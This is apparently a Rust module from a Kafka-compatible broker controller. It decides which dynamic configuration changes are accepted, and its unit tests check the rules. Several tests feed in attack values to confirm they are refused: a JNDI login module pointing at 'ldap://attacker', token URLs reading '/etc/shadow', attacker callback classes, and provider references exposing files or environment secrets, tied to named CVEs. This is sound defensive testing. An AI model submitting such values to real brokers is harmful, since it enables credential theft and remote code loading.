//! Decides which dynamic configuration the controller accepts, from the definitions of properties.

use std::collections::BTreeMap;

use dohle_config::providers::has_reference;
use dohle_config::{
    BrokerValues, ClientPatterns, ConfigDef, ConfigType, LISTENER_PREFIX, ListenerProperty, Scope,
    UpdateMode, Validator, definitions, find, lookup, violation_of_change,
};
use dohle_controller::plan::ConfigSchema;
use dohle_model::image::MetadataImage;
use dohle_model::record::ConfigResource;
use dohle_tls::TlsError;

use crate::config::{PRINCIPAL_BUILDER_CLASS, check_principal_builder};

/// The definitions of `dohle-model`, with the controller's own properties as topics' defaults.
#[derive(Debug, Clone)]
pub struct Definitions {
    /// The controller's properties.
    pub values: BrokerValues,
}

impl ConfigSchema for Definitions {
    fn check(&self, resource: &ConfigResource, name: &str, value: &str) -> Result<(), String> {
        match resource {
            ConfigResource::Topic(_) => {
                let def = lookup(Scope::Topic, name).map_err(|error| {
                    let reason = topic_counterpart(name).unwrap_or_else(|| error.to_string());
                    format!("Unknown topic config name: {name} ({reason})")
                })?;
                def.validate(value).map_err(|error| error.to_string())
            }
            ConfigResource::Broker(_) | ConfigResource::BrokerDefault => {
                check_broker(resource, name, value)
            }
            ConfigResource::Group(_) => {
                let def = lookup(Scope::Group, name)
                    .map_err(|error| format!("Unknown group config name: {name} ({error})"))?;
                def.validate(value).map_err(|error| error.to_string())
            }
            ConfigResource::ClientMetrics(_) => check_client_metrics(name, value),
        }
    }

    fn check_together(
        &self,
        resource: &ConfigResource,
        image: &MetadataImage,
        after: &BTreeMap<String, String>,
    ) -> Result<(), String> {
        let now = image.configs.get(resource).cloned().unwrap_or_default();
        let is_changed = |name: &str| now.get(name) != after.get(name);
        let violation = match resource {
            ConfigResource::Topic(_) => {
                let value = |own| self.value_of(Scope::Topic, own);
                violation_of_change(Scope::Topic, &value(&now), &value(after), is_changed)
            }
            ConfigResource::Group(_) => {
                let value = |own| self.value_of(Scope::Group, own);
                violation_of_change(Scope::Group, &value(&now), &value(after), is_changed)
            }
            // Each broker checks its own values, which depend on its file.
            ConfigResource::Broker(_) | ConfigResource::BrokerDefault => None,
            ConfigResource::ClientMetrics(_) => None,
        };
        violation.map_or(Ok(()), |violation| Err(violation.to_string()))
    }

    fn is_list(&self, resource: &ConfigResource, name: &str) -> bool {
        // As in Kafka, where no property of client metrics can be appended to.
        !matches!(resource, ConfigResource::ClientMetrics(_))
            && definition(resource, name).is_some_and(|def| def.kind == ConfigType::List)
    }

    fn default_value(&self, resource: &ConfigResource, name: &str) -> Option<String> {
        let def = definition(resource, name)?;
        match resource {
            ConfigResource::Topic(_) | ConfigResource::Group(_) => {
                self.values.topic_value(None, def)
            }
            _ => def.default_value().map(str::to_owned),
        }
    }
}

impl Definitions {
    /// Returns a function that returns the value of a property of a topic or a group with these
    /// values of its own, or else of a property of the controller.
    fn value_of<'a>(
        &'a self,
        scope: Scope,
        own: &'a BTreeMap<String, String>,
    ) -> impl Fn(&str) -> Option<String> + 'a {
        move |name| match find(scope, name) {
            Some(def) => self.values.topic_value(Some(own), def),
            None => self.values.effective(name),
        }
    }
}

/// Properties that change at run time for single listeners alone (Kafka's
/// `SslConfigs.RECONFIGURABLE_CONFIGS`).
const OF_LISTENERS: &[&str] = &[
    "ssl.key.password",
    "ssl.keystore.certificate.chain",
    "ssl.keystore.key",
    "ssl.keystore.location",
    "ssl.keystore.password",
    "ssl.keystore.type",
    "ssl.truststore.certificates",
    "ssl.truststore.location",
    "ssl.truststore.password",
    "ssl.truststore.type",
];

/// Names the property of topics that a property of brokers is the default of.
fn topic_counterpart(name: &str) -> Option<String> {
    let of_broker = find(Scope::Broker, name)?;
    let mut topics = definitions(Scope::Topic);
    let of_topic = topics.find(|def| {
        let default = def.broker_name.and_then(|name| find(Scope::Broker, name));
        default.is_some_and(|def| def.name == name || def.synonyms.contains(&name))
    })?;
    let unit = if of_broker.unit_ms() == 1 {
        ""
    } else {
        ", in milliseconds"
    };
    Some(format!(
        "it is a property of brokers; use {}{unit}",
        of_topic.name
    ))
}

fn check_client_metrics(name: &str, value: &str) -> Result<(), String> {
    let def = lookup(Scope::ClientMetrics, name)
        .map_err(|error| format!("Unknown client metrics configuration: {name} ({error})"))?;
    if def.validator == Validator::ClientPatterns {
        // The error has the item and the reason, which the definition's does not.
        ClientPatterns::parse(value).map_err(|invalid| invalid.to_string())?;
    }
    def.validate(value).map_err(|error| error.to_string())
}

fn check_broker(resource: &ConfigResource, name: &str, value: &str) -> Result<(), String> {
    if has_reference(value) {
        return Err(format!(
            "{name} refers to a configuration provider; references are resolved in the properties \
             that a node starts with, not in values that are set at run time: set the value itself"
        ));
    }
    let for_all = matches!(resource, ConfigResource::BrokerDefault);
    if name.starts_with(LISTENER_PREFIX) {
        return check_listener(for_all, name, value);
    }
    // As in Kafka, clients and plugins may keep configurations of their own here.
    let Some(def) = find(Scope::Broker, name) else {
        return check_own(name);
    };
    if !def.is_dynamic() || def.needs_restart {
        return Err(format!(
            "Cannot update these configs dynamically: {name}; set it in the properties of each \
             broker and restart it"
        ));
    }
    if OF_LISTENERS.contains(&name) {
        return Err(format!(
            "These security configs can be dynamically updated only per-listener using the \
             listener prefix: {name}"
        ));
    }
    if for_all && def.update_mode == UpdateMode::PerBroker {
        return Err(format!(
            "Cannot update these configs at default cluster level, broker id must be specified: \
             {name}"
        ));
    }
    def.validate(value).map_err(|error| error.to_string())?;
    check_class(def, name, value)
}

/// Checks a name that brokers do not define. Kafka resolves references with the providers that such
/// names configure; here only the properties that a node starts with do so.
fn check_own(name: &str) -> Result<(), String> {
    match name.starts_with("config.providers.") {
        true => Err(format!("Cannot update these configs dynamically: {name}")),
        false => Ok(()),
    }
}

/// Refuses a class that no node can load, as at the start. The value is set under `name`.
fn check_class(def: &ConfigDef, name: &str, value: &str) -> Result<(), String> {
    let value = value.trim();
    match def.name {
        _ if value.is_empty() => Ok(()),
        PRINCIPAL_BUILDER_CLASS => {
            check_principal_builder(name, value).map_err(|error| error.to_string())
        }
        "ssl.engine.factory.class" | "ssl.provider" => {
            let (property, value) = (name.to_owned(), value.to_owned());
            Err(TlsError::Class { property, value }.to_string())
        }
        _ => Ok(()),
    }
}

/// Checks a value of a property of one listener. `for_all` is whether it is set for all brokers.
fn check_listener(for_all: bool, name: &str, value: &str) -> Result<(), String> {
    match ListenerProperty::parse(name) {
        Some(property) if property.def.is_dynamic() && !property.def.needs_restart => {
            if for_all && property.def.update_mode == UpdateMode::PerBroker {
                return Err(format!(
                    "Cannot update these configs at default cluster level, broker id must be \
                     specified: {name}"
                ));
            }
            let valid = property.validate(name, value);
            valid.map_err(|error| error.to_string())?;
            check_class(property.def, name, value)
        }
        Some(_) => Err(format!("Cannot update these configs dynamically: {name}")),
        None => check_own_of_listener(for_all, name, value),
    }
}

/// Checks a name with a listener's prefix that no property of listeners has. As in Kafka, the value
/// is one that the property without the prefix would have.
fn check_own_of_listener(for_all: bool, name: &str, value: &str) -> Result<(), String> {
    let rest = name.strip_prefix(LISTENER_PREFIX).unwrap_or_default();
    let Some((_, rest)) = rest.split_once('.') else {
        return Ok(());
    };
    if for_all {
        return Err(format!(
            "Cannot update these configs at default cluster level, broker id must be specified: \
             {name}"
        ));
    }
    match find(Scope::Broker, rest) {
        Some(def) => def.validate(value).map_err(|error| error.to_string()),
        None => Ok(()),
    }
}

fn definition(resource: &ConfigResource, name: &str) -> Option<&'static ConfigDef> {
    match resource {
        ConfigResource::Topic(_) => find(Scope::Topic, name),
        ConfigResource::Broker(_) | ConfigResource::BrokerDefault => {
            find(Scope::Broker, name).or_else(|| Some(ListenerProperty::parse(name)?.def))
        }
        ConfigResource::Group(_) => find(Scope::Group, name),
        ConfigResource::ClientMetrics(_) => find(Scope::ClientMetrics, name),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn together(values: &[(&str, &str)]) -> Result<(), String> {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let group = ConfigResource::Group("g".into());
        let owned = |(name, value): &(&str, &str)| ((*name).to_owned(), (*value).to_owned());
        let values = values.iter().map(owned).collect();
        definitions.check_together(&group, &MetadataImage::default(), &values)
    }

    #[test]
    fn a_groups_properties_keep_within_the_bounds_of_the_broker() {
        assert_eq!(together(&[]), Ok(()));
        assert_eq!(
            together(&[("consumer.session.timeout.ms", "60000")]),
            Ok(())
        );
        let refused = [
            (
                "consumer.session.timeout.ms",
                "44999",
                "consumer.session.timeout.ms (44999) must be greater than or equal to \
                 group.consumer.min.session.timeout.ms (45000)",
            ),
            (
                "consumer.heartbeat.interval.ms",
                "15001",
                "consumer.heartbeat.interval.ms (15001) must be less than or equal to \
                 group.consumer.max.heartbeat.interval.ms (15000)",
            ),
            (
                "streams.num.standby.replicas",
                "3",
                "streams.num.standby.replicas (3) must be less than or equal to \
                 group.streams.max.standby.replicas (2)",
            ),
        ];
        for (name, value, reason) in refused {
            assert_eq!(together(&[(name, value)]), Err(reason.to_owned()));
        }
    }

    #[test]
    fn a_property_of_one_listener_is_checked_like_the_property_without_prefix() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let check = |resource, name: &str, value| {
            let checked = definitions.check(&resource, name, value);
            checked.map_err(|error| error.split(':').next().unwrap_or_default().to_owned())
        };
        let node = || ConfigResource::Broker(dohle_model::NodeId(1));
        let auth = "listener.name.out.ssl.client.auth";
        assert_eq!(check(node(), auth, "required"), Ok(()));
        let refused = check(node(), auth, "maybe").unwrap_err();
        assert!(refused.starts_with(auth), "{refused}");
        let not_for_all = "Cannot update these configs at default cluster level, broker id must be \
                           specified";
        assert_eq!(
            check(ConfigResource::BrokerDefault, auth, "required"),
            Err(not_for_all.to_owned())
        );
        let fixed = Err("Cannot update these configs dynamically".to_owned());
        let rules = "listener.name.out.ssl.principal.mapping.rules";
        assert_eq!(check(node(), rules, "x"), fixed);
        let own = "listener.name.out.my.own";
        assert_eq!(check(node(), own, "x"), Ok(()));
        assert_eq!(
            check(ConfigResource::BrokerDefault, own, "x"),
            Err(not_for_all.to_owned())
        );
        let threads = "listener.name.out.num.io.threads";
        assert_eq!(check(node(), threads, "8"), Ok(()));
        let refused = check(node(), threads, "many").unwrap_err();
        assert!(refused.starts_with("num.io.threads"), "{refused}");
    }

    /// Clients and plugins keep configurations of their own with brokers, as with Kafka's.
    #[test]
    fn names_that_brokers_do_not_define_are_accepted_but_those_of_providers() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let node = || ConfigResource::Broker(dohle_model::NodeId(1));
        for resource in [node(), ConfigResource::BrokerDefault] {
            assert_eq!(definitions.check(&resource, "my.own", "x"), Ok(()));
            let provider = "config.providers.file.class";
            assert!(definitions.check(&resource, provider, "x").is_err());
            let reference = definitions.check(&resource, "my.own", "${env:SECRET}");
            assert!(reference.is_err());
        }
    }

    /// CVE-2023-25194, CVE-2025-27817, CVE-2025-27818, CVE-2025-27819: who may alter configurations
    /// must not make a node load a login module, read a file as a token or connect to a URL.
    #[test]
    fn login_modules_and_urls_of_tokens_cannot_be_altered() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let module = "com.sun.security.auth.module.JndiLoginModule required \
                      user.provider.url=\"ldap://attacker\";";
        let all = || ConfigResource::BrokerDefault;
        let node = || ConfigResource::Broker(dohle_model::NodeId(1));
        for (name, value) in [
            ("sasl.jaas.config", module),
            ("sasl.oauthbearer.jwks.endpoint.url", "file:///etc/shadow"),
            (
                "sasl.oauthbearer.jwks.endpoint.url",
                "https://attacker/jwks",
            ),
            ("sasl.oauthbearer.token.endpoint.url", "file:///etc/shadow"),
            ("sasl.oauthbearer.assertion.file", "/etc/shadow"),
            ("sasl.login.callback.handler.class", "attacker.Handler"),
            ("sasl.server.callback.handler.class", "attacker.Handler"),
        ] {
            let of_listener = format!("listener.name.out.plain.{name}");
            for name in [name, &of_listener] {
                for resource in [all(), node()] {
                    let checked = definitions.check(&resource, name, value);
                    assert!(checked.is_err(), "{name} of {resource:?} can be altered");
                }
            }
        }
    }

    /// Who may alter configurations must not read files or variables of brokers: Kafka resolves
    /// references in altered values, and lets the same request define the provider.
    #[test]
    fn a_reference_to_a_provider_cannot_be_set_at_run_time() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let node = || ConfigResource::Broker(dohle_model::NodeId(1));
        let refused = [
            (
                "listener.name.out.ssl.keystore.location",
                "${file:/etc/shadow:root}",
            ),
            ("listener.name.out.ssl.keystore.password", "x${env:SECRET}"),
            ("log.retention.ms", "${env:SECRET}"),
        ];
        for (name, value) in refused {
            let error = definitions.check(&node(), name, value).unwrap_err();
            assert!(
                error.contains("refers to a configuration provider"),
                "{error}"
            );
            assert!(!error.contains(value), "{error}");
        }
        let all = ConfigResource::BrokerDefault;
        for name in ["config.providers", "config.providers.file.class"] {
            assert!(definitions.check(&all, name, "file").is_err(), "{name}");
        }
    }

    #[test]
    fn classes_that_are_refused_at_the_start_cannot_be_altered() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let node = ConfigResource::Broker(dohle_model::NodeId(1));
        let built_in =
            "org.apache.kafka.common.security.authenticator.DefaultKafkaPrincipalBuilder";
        for (name, is_allowed) in [
            ("principal.builder.class", built_in),
            ("ssl.engine.factory.class", ""),
            ("ssl.provider", ""),
        ] {
            for name in [name.to_owned(), format!("listener.name.out.{name}")] {
                let refused = definitions.check(&node, &name, "my.Class").unwrap_err();
                let names = format!("{name} is \"my.Class\"");
                assert!(refused.starts_with(&names), "{refused}");
                assert_eq!(
                    definitions.check(&node, &name, is_allowed),
                    Ok(()),
                    "{name}"
                );
            }
        }
    }

    #[test]
    fn a_property_of_brokers_that_is_set_on_a_topic_names_that_of_topics() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let topic = ConfigResource::Topic(dohle_model::TopicName::new("t").unwrap());
        let refused = |name| definitions.check(&topic, name, "1").unwrap_err();
        assert_eq!(
            refused("log.retention.minutes"),
            "Unknown topic config name: log.retention.minutes (it is a property of brokers; use \
             retention.ms, in milliseconds)"
        );
        assert!(refused("message.max.bytes").ends_with("use max.message.bytes)"));
        assert!(refused("num.partitions").contains("there is no property"));
    }

    #[test]
    fn client_metrics_have_three_properties_with_ranges_and_patterns() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let subscription = ConfigResource::ClientMetrics("s".into());
        let check = |name, value| definitions.check(&subscription, name, value);
        for (name, value) in [
            ("interval.ms", "100"),
            ("interval.ms", "3600000"),
            ("metrics", "*"),
            ("metrics", ""),
            ("match", ""),
            ("match", "client_id=a.*, client_source_port=9"),
        ] {
            assert_eq!(check(name, value), Ok(()), "{name}={value}");
        }
        for (name, value, reason) in [
            ("interval.ms", "99", "100 to 3600000"),
            ("interval.ms", "3600001", "100 to 3600000"),
            ("interval.ms", "x", "a whole number"),
            ("metrics", "a,,b", "without empty items"),
            (
                "match",
                "client_id=(",
                "Illegal client matching pattern: client_id=(",
            ),
            ("match", "client_id=a,,", "list of field=pattern"),
            ("match", "user=a", "Illegal client matching pattern: user=a"),
            (
                "interval",
                "100",
                "Unknown client metrics configuration: interval",
            ),
        ] {
            let refused = check(name, value).unwrap_err();
            assert!(refused.contains(reason), "{refused}");
        }
        assert!(!definitions.is_list(&subscription, "match"));
        let default = definitions.default_value(&subscription, "interval.ms");
        assert_eq!(default.as_deref(), Some("300000"));
    }

    #[test]
    fn a_name_that_no_group_property_has_is_refused() {
        let definitions = Definitions {
            values: BrokerValues::default(),
        };
        let group = ConfigResource::Group("g".into());
        assert!(definitions.check(&group, "retention.ms", "1").is_err());
        assert!(
            definitions
                .check(&group, "consumer.session.timeout.ms", "x")
                .is_err()
        );
    }
}
